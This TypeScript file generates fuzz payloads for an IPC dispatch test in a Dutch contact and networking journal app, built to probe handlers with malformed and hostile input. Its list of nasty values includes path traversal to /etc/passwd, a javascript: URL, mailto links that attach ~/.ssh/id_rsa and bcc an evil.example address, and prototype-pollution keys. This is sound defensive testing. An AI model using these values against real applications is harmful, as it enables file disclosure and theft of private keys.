/**
 * Generated IPC payloads for the dispatch fuzz test (dispatch.fuzz.test.ts): what a compromised or
 * buggy page could send. Half is plain garbage, half is a valid payload with one thing changed, so the
 * checks deep inside the handlers are reached too, not only the schema at the door.
 */
import fc from 'fast-check';
import type { Channel } from '../../contract/channels';
import { snoozeOptions } from '../../contract/contract';
import {
  cadences,
  circles,
  conversationChannels,
  conversationKinds,
  conversationStatuses,
  questionPurposes,
  strengths,
  thanksMethods,
  threeBs,
  touchChannels,
  warmths,
} from '../../contract/domain';

/** Ids of the records the test journal starts with. */
export interface SeedIds {
  contact: string;
  introduced: string;
  conversation: string;
  heldConversation: string;
  referral: string;
  touch: string;
  question: string;
  reminder: string;
  /** A hulpvraag, and its ask to `contact`. */
  helpRequest: string;
  helpAsk: string;
  /** An own text (issue 14). */
  template: string;
  /** A planned action with `contact`, this week. */
  action: string;
  /** A record changed on two computers, waiting for the person to choose. */
  conflict: string;
  /** A sync tool's conflict copy beside the journal, by the name `journal:sync` offers. */
  copy: string;
}

/** One valid payload per channel, on the seeded records. */
export function validPayloads(ids: SeedIds): Record<Channel, unknown> {
  return {
    'app:status': undefined,
    'contacts:list': {
      query: 'jan',
      sort: 'lastContact',
      show: 'active',
      filters: {
        circle: ['werk'],
        warmth: ['warm', 'lauw'],
        tag: ['zorg'],
        keepInTouch: ['due'],
        neverSpoken: false,
      },
    },
    'contacts:get': { id: ids.contact },
    'contacts:create': { name: 'Sanne de Vries', email: 'sanne@example.nl', tags: ['zorg'] },
    'contacts:update': { id: ids.contact, changes: { role: 'Teamleider', tags: ['ict'] } },
    'contacts:archive': { id: ids.introduced },
    'contacts:restore': { id: ids.introduced },
    'contacts:delete': { id: ids.introduced, withConversations: true },
    'contacts:similar': { name: 'Jan' },
    'contacts:timeline': { id: ids.contact },
    'contacts:chain': { id: ids.introduced },
    'contacts:duplicates': undefined,
    'contacts:merge': { keepId: ids.contact, mergeId: ids.introduced, fromOther: ['role', 'email'] },
    'contacts:undoMerge': { undoId: ids.contact },
    'contacts:notDuplicate': { ids: [ids.contact, ids.introduced] },
    'touches:add': { contactId: ids.contact, channel: 'telefoon', on: '2026-11-20', note: 'Even gebeld' },
    'touches:delete': { id: ids.touch },
    'conversations:list': { query: '', status: 'gehouden' },
    'conversations:get': { id: ids.conversation },
    'conversations:create': { contactId: ids.contact, date: '2026-11-30', time: '10:00' },
    'conversations:update': { id: ids.conversation, changes: { goal: 'Tips over de zorg', time: null } },
    'conversations:delete': { id: ids.conversation },
    'conversations:referralToContact': {
      conversationId: ids.heldConversation,
      referralId: ids.referral,
      contactId: null,
    },
    'questions:list': undefined,
    'questions:add': { purpose: 'verkennen', text: 'Hoe ziet je werkdag eruit?' },
    'questions:delete': { id: ids.question },
    'insights:learnings': { from: '2026-01-01', to: null },
    'reminders:list': undefined,
    'reminders:count': undefined,
    'reminders:get': { id: ids.reminder },
    'reminders:create': { title: 'Vacaturebank bekijken', date: '2026-11-24', time: '09:00' },
    'reminders:update': { id: ids.reminder, changes: { title: 'Jan mailen', contactId: ids.contact } },
    'reminders:complete': { id: ids.reminder, thanksHow: null },
    'reminders:skip': { id: ids.reminder },
    'reminders:snooze': { id: ids.reminder, option: 'moment', date: '2026-12-01', time: '09:00' },
    'reminders:reopen': { id: ids.reminder },
    'reminders:delete': { id: ids.reminder },
    'reminders:keepInTouch': { contactId: ids.contact },
    'settings:get': undefined,
    'settings:update': { reminderTime: '08:30', closeToTray: false },
    'journal:move': undefined,
    'journal:saveAs': undefined,
    'journal:retrySave': undefined,
    'journal:sync': undefined,
    'journal:resolveConflict': { id: ids.conflict, keep: 'other' },
    'journal:mergeCopy': { name: ids.copy },
    'journal:ignoreCopy': { name: ids.copy },
    // The seeded journal has nothing set aside: these are refused as not found, whatever comes.
    'journal:restoreRecord': { id: 'set-aside-1', raw: '{"id":"x","name":"Jan"}' },
    'journal:dropRecord': { id: 'set-aside-1' },
    'journal:retry': undefined,
    'journal:open': undefined,
    'journal:openBackup': undefined,
    'journal:startNew': undefined,
    'shell:openExternal': { url: 'mailto:jan@example.nl?subject=Koffie' },
    'shell:showJournalFile': { which: 'journal' },
    'exchange:export': { format: 'csv' },
    'journal:backups': undefined,
    // The seeded journal has no backup of this day: refused as not found.
    'journal:restoreBackup': { date: '2026-11-01' },
    'journal:restoreFile': undefined,
    // A LinkedIn export of two connections, as base64, the way the page sends a chosen file.
    'import:read': {
      fileName: 'Connections.csv',
      data: Buffer.from(
        '\uFEFFFirst Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n' +
          'Anna,de Vries,https://www.linkedin.com/in/annadevries,,Gemeente Utrecht,Adviseur,12 Mar 2024\r\n',
      ).toString('base64'),
    },
    // No import is open in the seeded journal: these are refused as expired, whatever comes.
    'import:map': { importId: 'import-1', mapping: { name: 0, organisation: 2 } },
    'import:rows': { importId: 'import-1', status: 'nieuw', offset: 0, limit: 50 },
    'import:apply': { importId: 'import-1', exclude: [2, 3] },
    'import:undo': { importId: 'import-1' },
    'import:cancel': { importId: 'import-1' },
    'overview:get': undefined,
    'overview:dismiss': { key: `weak-tie:${ids.contact}` },
    'organisations:list': { query: 'gemeente' },
    'organisations:rename': { key: 'gemeente utrecht', name: 'Gemeente Utrecht' },
    'organisations:mark': { name: 'Rabobank', target: true },
    'texts:facts': { conversationId: ids.heldConversation },
    'shell:copyText': { text: 'Beste Jan, dank voor ons gesprek.' },
    'templates:list': undefined,
    'templates:save': {
      id: ids.template,
      fields: {
        name: 'Kort bedankje',
        purpose: 'bedanken',
        medium: 'bericht',
        language: 'nl',
        formal: false,
        subject: '',
        body: 'Hoi {voornaam}, dank voor {wanneer}!',
      },
    },
    'templates:delete': { id: ids.template },
    'goal:trail': undefined,
    'goal:thank': { person: { contactId: ids.introduced }, how: 'kaartje', note: 'Bedankt voor je hulp' },
    'profile:get': undefined,
    'profile:save': {
      lookingFor: { role: 'Adviseur', field: 'Energie', region: 'Utrecht', organisationKind: 'Gemeente' },
      pitch: 'Ik ben Jan, adviseur energie.',
      successStories: ['Een wijkaanpak opgezet.'],
      questions: {
        want: 'Adviseur zijn',
        can: 'Plannen',
        offer: 'Ervaring',
        where: 'Utrecht',
        whoCanHelp: 'Anna',
      },
      reached: { what: 'Adviseur', where: 'Eneco', from: '2027-01-01', on: '2026-11-20' },
    },
    'helpRequests:list': undefined,
    'helpRequests:create': { question: 'Wie kent iemand bij Eneco?', context: 'Ik wil er werken.' },
    'helpRequests:update': { id: ids.helpRequest, changes: { context: 'Bij de afdeling warmte.' } },
    'helpRequests:close': { id: ids.helpRequest, status: 'beantwoord' },
    'helpRequests:delete': { id: ids.helpRequest },
    'helpRequests:logAsk': {
      helpRequestId: ids.helpRequest,
      contactId: ids.introduced,
      askedOn: '2026-11-22',
      channel: 'email',
      conversationId: ids.heldConversation,
    },
    'helpRequests:updateAsk': { id: ids.helpAsk, changes: { answer: 'Bel Piet', answeredOn: '2026-11-23' } },
    'helpRequests:asksOf': { contactId: ids.contact },
    'helpRequests:suggest': { id: ids.helpRequest, limit: 5 },
    'actions:list': undefined,
    'actions:create': {
      contactId: ids.introduced,
      week: '2026-W49',
      what: 'Bellen over de gemeente',
      kind: 'bellen',
      threeB: 'benutten',
      helpRequestId: ids.helpRequest,
    },
    'actions:update': { id: ids.action, changes: { week: '2026-W50', what: 'Koffie drinken' } },
    'actions:done': {
      id: ids.action,
      reflection: { brought: 'Twee namen', actedInReturn: 'ja', nextStep: 'Piet mailen' },
    },
    'actions:undone': { id: ids.action },
    'actions:delete': { id: ids.action },
    'actions:suggest': { limit: 3 },
  };
}

/** Built once: a million characters, well past every limit, and a value nested 10,000 deep. */
const hugeString = 'x'.repeat(1_000_000);
function nested(depth: number, leaf: unknown = 'bodem'): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i += 1) value = i % 2 ? [value] : { a: value };
  return value;
}
const deepNest = nested(10_000);

/** Keys that have hurt JavaScript programs: prototype pollution, and names objects already have. */
export const nastyKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  '',
  'id ',
  'ID',
] as const;

/** An object with `key` as an own property, `__proto__` included (as JSON.parse and IPC make it). */
function withOwn(base: object, key: string, value: unknown): Record<string, unknown> {
  const copy: Record<string, unknown> = { ...base };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

const unknownId = fc.oneof(
  fc.stringMatching(/^[A-Za-z0-9_-]{1,64}$/),
  fc.constantFrom('onbekend', 'a'.repeat(64), '0', '-', '_'),
);

/** Single values that break careless code. */
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    Number.NaN,
    Infinity,
    -Infinity,
    -0,
    Number.MAX_VALUE,
    Number.MIN_VALUE,
    Number.MAX_SAFE_INTEGER + 2,
    2 ** 53,
    new Date(Number.NaN),
    new Date(8.64e15),
    null,
    undefined,
    true,
    '',
    ' ',
    '\u0000',
    '\uD800',
    '\u202Eevil',
    'null',
    '__proto__',
    '2026-02-30',
    '2026-13-01',
    '0000-00-00',
    '24:00',
    '9:00',
    'T'.repeat(65),
    '../../../../etc/passwd',
    'javascript:alert(1)',
    'file:///etc/passwd',
    'mailto:a@b.nl?attach=~/.ssh/id_rsa',
    'mailto:a@b.nl?%61ttach=~/.ssh/id_rsa&bcc=spy@evil.example',
    'https://user:pw@evil.example/',
    hugeString,
    deepNest,
    [],
    {},
    [[[[]]]],
    { length: 1e9 },
    Object.create(null),
  ),
  unknownId,
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer(),
  fc.double(),
  fc.bigInt(),
  fc.date({ noInvalidDate: false }),
);

/** Anything at all: nested objects and arrays, maps, sets, typed arrays, boxed values, null prototypes. */
const anything = fc.anything({
  maxDepth: 4,
  maxKeys: 6,
  withBigInt: true,
  withBoxedValues: true,
  withDate: true,
  withMap: true,
  withSet: true,
  withNullPrototype: true,
  withObjectString: true,
  withSparseArray: true,
  withTypedArray: true,
  withUnicodeString: true,
  key: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom(...nastyKeys)),
});

const weird = fc.oneof({ weight: 3, arbitrary: nastyValue }, { weight: 2, arbitrary: anything });

/** Plain garbage, not derived from a valid payload. */
const garbage: fc.Arbitrary<unknown> = fc.oneof(
  weird,
  fc.tuple(fc.constantFrom(...nastyKeys), weird).map(([key, value]) => withOwn({}, key, value)),
  fc.array(weird, { maxLength: 5 }),
  fc.constant(nested(50_000, { id: 'x' })),
);

/** Every field name an input has somewhere, so a mutant can add one that belongs to another channel. */
const fieldNames = [
  'id',
  'name',
  'organisation',
  'role',
  'email',
  'phone',
  'linkedin',
  'circle',
  'warmth',
  'strength',
  'introducedById',
  'howWeMet',
  'tags',
  'notes',
  'lastContactOn',
  'cadence',
  'cadenceDays',
  'contactId',
  'conversationId',
  'referralId',
  'participantIds',
  'status',
  'date',
  'time',
  'channel',
  'kind',
  'threeB',
  'goal',
  'questions',
  'evaluation',
  'thanks',
  'title',
  'note',
  'on',
  'purpose',
  'text',
  'option',
  'thanksHow',
  'withConversations',
  'keepId',
  'mergeId',
  'fromOther',
  'undoId',
  'ids',
  'from',
  'to',
  'query',
  'sort',
  'show',
  'needs',
  'language',
  'reminderTime',
  'closeToTray',
  'openAtLogin',
  'which',
  'url',
] as const;

/**
 * Values that pass a field's schema often, so the mutant gets past the door and into the handler: every
 * choice the domain has, edge dates and times, the seeded records' ids in any id field (a conversation's
 * id where a contact's belongs, a contact as its own introducer), empty and edge-length texts.
 */
function plausibleValue(ids: SeedIds): fc.Arbitrary<unknown> {
  const seeded = Object.values(ids);
  return fc.oneof(
    fc.constantFrom<unknown>(
      ...circles,
      ...warmths,
      ...strengths,
      ...cadences,
      ...conversationStatuses,
      ...conversationChannels,
      ...conversationKinds,
      ...threeBs,
      ...thanksMethods,
      ...touchChannels,
      ...questionPurposes,
      ...snoozeOptions,
      'name',
      'lastContact',
      'active',
      'archived',
      'evaluation',
      'thanks',
      'journal',
      'damaged',
      'shown',
      'other',
      'journal.json',
      'journal (1).json',
      '../journal.json',
      'system',
      'nl',
      'en',
    ),
    fc.constantFrom(...seeded),
    fc.array(fc.constantFrom(...seeded), { maxLength: 4 }),
    fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      1,
      -1,
      3_650,
      3_651,
      '',
      '  Jan  ',
      'a'.repeat(200),
      'a'.repeat(201),
      ['zorg', 'zorg'],
      ['t'.repeat(40)],
      ['t'.repeat(41)],
      '2026-11-23',
      '2026-11-22',
      '2026-11-24',
      '2024-02-29',
      '1900-01-01',
      '2999-12-31',
      '00:00',
      '23:59',
      '09:00',
      'https://example.nl/',
      'jan@example.nl',
      '+31 20 123 4567',
      { thanked: true, how: 'email', on: '2026-11-22' },
      { thanked: true, how: null, on: null },
      { referrals: [{ id: 'ref-1', name: 'Piet' }], tips: ['Bel Karin'] },
      { referrals: [{ id: 'ref-2', name: 'Piet', contactId: ids.contact }] },
      [{ id: 'q1', text: 'Wat doe je?' }],
    ),
  );
}

type Mutation = (value: unknown) => fc.Arbitrary<unknown>;

/** One change to a valid payload, at the top or one level down (the `changes` of an update). */
function mutate(valid: unknown, ids: SeedIds): fc.Arbitrary<unknown> {
  if (valid === null || typeof valid !== 'object') {
    // Channels without input: anything in its place.
    return fc.oneof(weird, fc.constant({}), fc.constant([]));
  }
  const record = valid as Record<string, unknown>;
  const keys = Object.keys(record);
  const nestedKeys = keys.filter((key) => record[key] !== null && typeof record[key] === 'object');
  const mutations: Mutation[] = [
    // Missing key.
    () => fc.constantFrom(...keys).map((key) => withoutKey(record, key)),
    // Extra key, nasty or random.
    () =>
      fc
        .tuple(fc.oneof(fc.constantFrom(...nastyKeys), fc.string({ maxLength: 10 })), weird)
        .map(([key, value]) => withOwn(record, key, value)),
    // Wrong value for a key.
    () => fc.tuple(fc.constantFrom(...keys), weird).map(([key, value]) => withOwn(record, key, value)),
    // An id that is not there, in every id field.
    () =>
      unknownId.map((id) =>
        Object.fromEntries(Object.entries(record).map(([k, v]) => [k, /id$/i.test(k) ? id : v])),
      ),
    // A field of this or another channel, with a value that often passes its schema; a seeded id in
    // every id field.
    () =>
      fc
        .tuple(fc.constantFrom(...fieldNames), plausibleValue(ids))
        .map(([key, value]) => ({ ...record, [key]: value })),
    () =>
      fc
        .constantFrom(...Object.values(ids))
        .map((id) =>
          Object.fromEntries(Object.entries(record).map(([k, v]) => [k, /id$/i.test(k) ? id : v])),
        ),
    // The whole payload wrapped or boxed.
    () =>
      fc.constantFrom<unknown>([record], { payload: record }, JSON.stringify(record), new Map([['id', 1]])),
  ];
  if (nestedKeys.length > 0) {
    mutations.push(() =>
      fc
        .constantFrom(...nestedKeys)
        .chain((key) =>
          fc
            .tuple(fc.oneof(fc.constantFrom(...nastyKeys), fc.string({ maxLength: 10 })), weird)
            .map(([extra, value]) => ({ ...record, [key]: withOwn(record[key] as object, extra, value) })),
        ),
    );
    // Up to three plausible fields inside the nested object (the changes of an update).
    mutations.push(() =>
      fc
        .constantFrom(...nestedKeys)
        .chain((key) =>
          fc
            .dictionary(fc.constantFrom(...fieldNames), plausibleValue(ids), { minKeys: 1, maxKeys: 3 })
            .map((fields) => ({ ...record, [key]: { ...(record[key] as object), ...fields } })),
        ),
    );
  }
  return fc.oneof(...mutations.map((mutation) => mutation(valid)));
}

function withoutKey(record: Record<string, unknown>, key: string): Record<string, unknown> {
  const copy = { ...record };
  delete copy[key];
  return copy;
}

/** What the test sends on one channel: the valid payload now and then, else garbage or a mutant. */
export function payloadsFor(
  valid: unknown,
  ids: SeedIds,
): fc.Arbitrary<{ kind: 'valid' | 'mutant' | 'garbage'; payload: unknown }> {
  return fc.oneof(
    { weight: 1, arbitrary: fc.constant({ kind: 'valid' as const, payload: valid }) },
    { weight: 5, arbitrary: mutate(valid, ids).map((payload) => ({ kind: 'mutant' as const, payload })) },
    { weight: 5, arbitrary: garbage.map((payload) => ({ kind: 'garbage' as const, payload })) },
  );
}
